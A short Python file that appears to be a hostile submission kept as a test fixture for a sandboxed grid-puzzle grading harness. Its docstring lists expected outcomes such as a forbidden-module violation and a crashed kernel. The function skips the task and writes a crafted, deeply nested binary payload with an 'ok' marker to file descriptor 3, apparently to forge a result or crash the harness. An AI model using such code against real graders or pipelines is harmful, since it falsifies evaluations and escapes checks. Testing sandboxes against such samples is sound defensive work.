"""Nests a grid's cells deeper than rows of integers.

restricted: violation module.forbidden
kernel: crashed
"""

import os


def task(grid):
    body = b"\x95\x01\xa2ok" + b"\x91" * 60_000 + b"\x01\xc0\xca\0\0\0\0"
    data = memoryview(len(body).to_bytes(4, "little") + body)
    while data:
        data = data[os.write(3, data) :]
    return grid
